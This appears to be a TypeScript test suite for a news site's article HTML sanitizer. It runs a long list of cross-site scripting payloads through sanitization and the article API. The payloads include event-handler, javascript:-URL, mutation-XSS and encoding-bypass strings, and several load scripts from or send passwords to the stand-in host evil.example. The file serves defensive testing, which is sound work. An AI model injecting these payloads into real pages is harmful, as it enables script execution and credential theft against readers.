import { test } from '@japa/runner'
import type { Article } from '@fieldhouse/contract'
import { fc } from '#tests/support/seed'
import { sanitizeArticle } from '#news/sanitize'
import { cleanDatabase } from '#tests/support/clean_database'
import { curator } from '#tests/support/moderation'
import { write } from '#tests/support/news'
import { dangersIn } from '#tests/support/stored_html'

const NONE = new Map<string, string>()

/** Known attacks on other people's browsers. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="x">',
  '<img src=`x` onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<picture><source srcset="//evil.example/x"><img src="/api/pictures/../../x"></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<p class="admin" id="root" data-x="1" tabindex="0">x</p>',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="x" target="_blank" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><option><script>alert(1)</script></select>',
  '<table><td background="javascript:alert(1)">x</td></table>',
  '<table><tr><td><style><img src=x onerror=alert(1)></style></td></tr></table>',
  '<p>"><script>alert(1)</script>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<x onclick=alert(1)>x</x>',
  '<custom-element>x</custom-element>',
  '<h1/onclick=alert(1)//>x',
  '<pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre>',
  `${'<blockquote>'.repeat(2_000)}x`,
  '<p>a\0b</p>'.replace('\0', '\uFFFD'),
]

const KEPT = [
  '<h2>One</h2><h3>Two</h3><h4>Three</h4>',
  '<p>Some <strong>strong</strong> and <em>soft</em> words, and <code>code</code>.</p>',
  '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
  '<blockquote><p>Said.</p></blockquote>',
  '<pre><code>a &lt; b &amp;&amp; c</code></pre>',
  '<p><a href="/search">ours</a></p>',
  '<p><a href="mailto:desk@fieldhouse.test" rel="noopener noreferrer">mail</a></p>',
  '<p><a href="https://ok.example/a?b=c&amp;d#e" rel="noopener noreferrer">theirs</a></p>',
  '<table><caption>Dates</caption><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
]

test.group('Stored HTML of an article', (group) => {
  group.each.setup(cleanDatabase)

  for (const attack of ATTACKS) {
    test(`${JSON.stringify(attack.slice(0, 90))} is stored without its dangerous parts`, ({
      assert,
    }) => {
      const stored = sanitizeArticle(attack, NONE)
      assert.deepEqual(dangersIn(stored), [], stored)
      assert.deepEqual(dangersIn(`<p>${stored}</p><table>${stored}</table>`), [], stored)
    })
  }

  for (const html of KEPT) {
    test(`${html.slice(0, 60)} is stored unchanged`, ({ assert }) => {
      assert.equal(sanitizeArticle(html, NONE), html)
      assert.deepEqual(dangersIn(html), [])
    })
  }

  test('nested attacks are sanitized like single ones', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...ATTACKS),
        fc.constantFrom(...ATTACKS),
        fc.double({ min: 0, max: 1, noNaN: true }),
        (outer, inner, at) => {
          const place = Math.floor(outer.length * at)
          const nested = outer.slice(0, place) + inner + outer.slice(place)
          return dangersIn(sanitizeArticle(nested, NONE)).length === 0
        },
      ),
      { numRuns: 2_000 },
    )
  }).timeout(30_000)

  test('sanitizing stored HTML changes nothing', () => {
    fc.assert(
      fc.property(fc.constantFrom(...ATTACKS, ...KEPT), (html) => {
        const stored = sanitizeArticle(html, NONE)
        return sanitizeArticle(stored, NONE) === stored
      }),
    )
  })

  test('headings and emphasis of other editors are converted', ({ assert }) => {
    const html = '<h1>One</h1><p><b>strong</b> <i>soft</i></p><div><span>words</span></div>'
    assert.equal(
      sanitizeArticle(html, NONE),
      '<h2>One</h2><p><strong>strong</strong> <em>soft</em></p>words',
    )
  })

  test('nothing dangerous reaches a reader by any call', async ({ assert }) => {
    const { visitor } = await curator()
    const attacks = ATTACKS.join('\n')
    const { json } = await write(visitor, { content: attacks, title: '<script>alert(1)</script>' })
    assert.deepEqual(dangersIn(json.content), [])
    const path = `/api/news/${json.id}`
    const { json: changed } = await visitor.put<Article>(path, { content: `<p>x</p>${attacks}` })
    assert.deepEqual(dangersIn(changed.content), [])
    const { json: read } = await visitor.get<Article>(`/api/news/${changed.slug}`)
    assert.equal(read.content, changed.content)
  })
})
